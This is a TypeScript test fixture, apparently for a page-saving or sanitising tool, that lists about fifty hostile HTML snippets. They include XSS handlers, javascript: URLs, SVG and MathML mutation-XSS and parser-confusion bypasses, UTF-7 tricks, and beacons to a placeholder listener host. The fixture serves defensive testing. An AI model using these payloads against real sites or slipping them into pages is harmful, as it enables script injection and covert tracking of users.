/*
 * Pages as nobody should save them: each tries to run a script, or to reach a listener, by another way. What runs says so
 * in the page's title; `{host}` is where the listener is.
 */

const ran = "document.title='ran';new Image().src='http://{host}/ran'";
const stun = "new RTCPeerConnection({iceServers:[{urls:'stun:{host}'}]})";

/** By what each tries. */
export const hostilePages: Record<string, string> = {
  "a script": `<script>${ran}</script>`,
  "a module": `<script type="module">${ran}</script>`,
  "a script from elsewhere": `<script src="http://{host}/script.js"></script>`,
  "fetch and XMLHttpRequest": `<script>fetch("http://{host}/fetch");x=new XMLHttpRequest;x.open("GET","http://{host}/xhr");x.send()</script>`,
  "a beacon": `<script>navigator.sendBeacon("http://{host}/beacon","x")</script>`,
  "a web socket": `<script>new WebSocket("ws://{host}/socket")</script>`,
  "a stream of events": `<script>new EventSource("http://{host}/events")</script>`,
  WebRTC: `<script>c=${stun};c.createDataChannel("x");c.createOffer().then(o=>c.setLocalDescription(o))</script>`,
  WebTransport: `<script>new WebTransport("https://{host}/")</script>`,
  "a worker": `<script>new Worker(URL.createObjectURL(new Blob(["fetch('http://{host}/worker');importScripts('http://{host}/import')"])))</script>`,
  "a shared worker": `<script>new SharedWorker("data:text/javascript,fetch('http://{host}/shared')")</script>`,
  "a service worker": `<script>navigator.serviceWorker.register("/sw.js");caches.open("x").then(c=>c.add("http://{host}/cache"))</script>`,
  "another window": `<script>open("http://{host}/window")</script>`,
  "another address": `<script>location="http://{host}/location"</script>`,
  "a script without end": `<script>for(;;);</script>`,
  "a redirection": `<meta http-equiv="refresh" content="0;url=http://{host}/refresh">`,
  "a redirection in the body": `<body><p>x<meta http-equiv=" refresh " content="0; http://{host}/refresh2">`,
  "a policy that reports": `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri http://{host}/report"><img src="x.png">`,
  "hints to connect": `<link rel="preconnect" href="http://{host}"><link rel="dns-prefetch" href="http://{host}"><link rel="prefetch" href="http://{host}/prefetch"><link rel="prerender" href="http://{host}/prerender">`,
  "hints to load": `<link rel="preload" as="image" href="http://{host}/preload"><link rel="modulepreload" href="http://{host}/module"><link rel="manifest" href="http://{host}/manifest"><link rel="icon" href="http://{host}/icon">`,
  "hints beside a style sheet": `<link rel="stylesheet preconnect prefetch" href="http://{host}/both">`,
  "rules of speculation": `<script type="speculationrules">{"prefetch":[{"urls":["http://{host}/speculated"]}]}</script>`,
  "style sheets from elsewhere": `<link rel="stylesheet" href="http://{host}/a.css"><style>@import "http://{host}/b.css";</style>`,
  "pictures of a style sheet": `<style>body{background:url(http://{host}/c.png);list-style:image-set("http://{host}/d.png" 1x);cursor:url(http://{host}/e.cur),auto}</style>`,
  "a font from elsewhere": `<style>@font-face{font-family:x;src:url(http://{host}/f.woff2)}body{font-family:x}</style><p>x`,
  "pictures from elsewhere": `<img src="http://{host}/g.png" srcset="http://{host}/h.png 2x"><picture><source srcset="http://{host}/i.png"><img></picture><input type="image" src="http://{host}/j.png">`,
  "old backgrounds": `<body background="http://{host}/k.png"><table background="http://{host}/l.png"><tr><td background="http://{host}/m.png">x`,
  "sound and film": `<video autoplay poster="http://{host}/n.png" src="http://{host}/o.mp4"></video><audio autoplay src="http://{host}/p.mp3"></audio><video><track default src="http://{host}/q.vtt"></video>`,
  "a frame from elsewhere": `<iframe src="http://{host}/frame"></iframe><iframe src="//{host}/frame2"></iframe><iframe src="/\\{host}/frame3"></iframe>`,
  "a frame with a script": `<iframe srcdoc="<script>parent.document.title='ran';fetch('http://{host}/srcdoc')</script><img src=x onerror=parent.document.title='ran'>"></iframe>`,
  "a frame of data": `<iframe src="data:text/html,<script>fetch('http://{host}/data')</script>"></iframe><iframe src="javascript:parent.document.title='ran'"></iframe><iframe src="java&#10;script:parent.document.title='ran'"></iframe>`,
  "objects and plugins": `<object data="http://{host}/object"></object><embed src="http://{host}/embed"><applet code="http://{host}/applet"></applet><fencedframe src="http://{host}/fenced"></fencedframe>`,
  "a frame set": `<frameset><frame src="http://{host}/frameset"></frameset>`,
  "an address for everything": `<base href="http://{host}/"><img src="base.png"><link rel="stylesheet" href="base.css">`,
  "handlers that need nobody": `<img src="x" onerror="${ran}"><svg onload="${ran}"></svg><details open ontoggle="${ran}"></details><input autofocus onfocus="${ran}"><marquee onstart="${ran}">x</marquee><body onpageshow="${ran}" onload="${ran}"><video onerror="${ran}"><source></video><div style="animation:x 1s" onanimationstart="${ran}"></div><style>@keyframes x{}</style>`,
  "a handler by another name": `<img src="x" ONERROR="${ran}"><img/src=x/onerror=document.title='ran'><svg><animate onbegin="${ran}" attributeName="x" dur="1s"/></svg>`,
  "SVG that loads": `<svg><image href="http://{host}/r.png"/><use href="http://{host}/s.svg#x"/><filter id="f"><feImage href="http://{host}/t.png"/></filter><rect filter="url(#f)" width="9" height="9" fill="url(http://{host}/u.svg#x)"/><script href="http://{host}/v.js"/></svg>`,
  "SVG that runs": `<svg><script>${ran}</script><a xlink:href="javascript:${ran}"><text>x</text></a><set attributeName="onload" to="${ran}"/><animate xlink:href="#y" attributeName="href" values="javascript:${ran}"/></svg>`,
  "HTML within SVG": `<svg><foreignObject><iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe><img src=x onerror="${ran}"></foreignObject><desc><img src=x onerror="${ran}"></desc><title><img src=x onerror="${ran}"></title></svg>`,
  "a style sheet within SVG": `<svg></p><style><a id="</style><img src=1 onerror=${ran.replaceAll("'", "&quot;")}>">`,
  "a glyph within mathematics": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran.replaceAll("'", "&quot;")}&gt;">`,
  "forms within mathematics": `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${ran}">`,
  "an annotation": `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${ran}"></style></annotation-xml><mi xlink:href="javascript:${ran}">x</mi></math>`,
  "what shows without scripts": `<noscript><p title="</noscript><img src=x onerror=${ran.replaceAll("'", "&quot;")}>"></noscript><noscript><meta http-equiv="refresh" content="0;url=http://{host}/noscript"><img src="http://{host}/noscript.png"></noscript>`,
  "text that is markup later": `<xmp><p title="</xmp><img src=x onerror=${ran.replaceAll("'", "&quot;")}>"></xmp><noembed><img src="</noembed><script>${ran}</script>"></noembed><noframes><a title="</noframes><script>${ran}</script>"></noframes><plaintext><script>${ran}</script>`,
  templates: `<template shadowrootmode="open"><script>${ran}</script><img src=x onerror="${ran}"><slot></slot></template><div><template shadowrootmode="open"><img src="http://{host}/shadow.png" onerror="${ran}"></template></div>`,
  "comments that end otherwise": `<!--><img src=x onerror="${ran}">--><!--!><img src=x onerror="${ran}">--><![CDATA[><img src=x onerror="${ran}">]]><?php ><img src=x onerror="${ran}">?>`,
  "forms that send themselves": `<form id="f" action="http://{host}/form" method="post"><input name="x" autofocus onfocus="f.submit()"></form><script>f.submit()</script><button form="f" formaction="javascript:${ran}" autofocus>x</button>`,
  links: `<a id="a" href="http://{host}/link" ping="http://{host}/ping" download>x</a><a href="javascript:${ran}">y</a><a href="&#1;java&#9;script:${ran}">z</a><area href="vbscript:x"><script>a.click()</script>`,
  "an encoding of its own": `<meta charset="utf-7"><p>+ADw-script+AD4-document.title='ran'+ADw-/script+AD4-</p><meta charset="iso-2022-jp"><a href="\u001b(J\u001b$B">x</a>`,
  XML: `<?xml-stylesheet type="text/xsl" href="http://{host}/xslt"?><!DOCTYPE html [<!ENTITY x SYSTEM "http://{host}/entity">]><p>&x;</p>`,
};

/** A page with a body that can be seen, whatever else it holds. */
export const hostilePage = (name: string, host: string): string =>
  `<!doctype html><html lang="en"><head><title>still</title></head><body><h1>Page</h1><button class="btn">Save</button>${(hostilePages[name] as string).replaceAll("{host}", host)}</body></html>`;
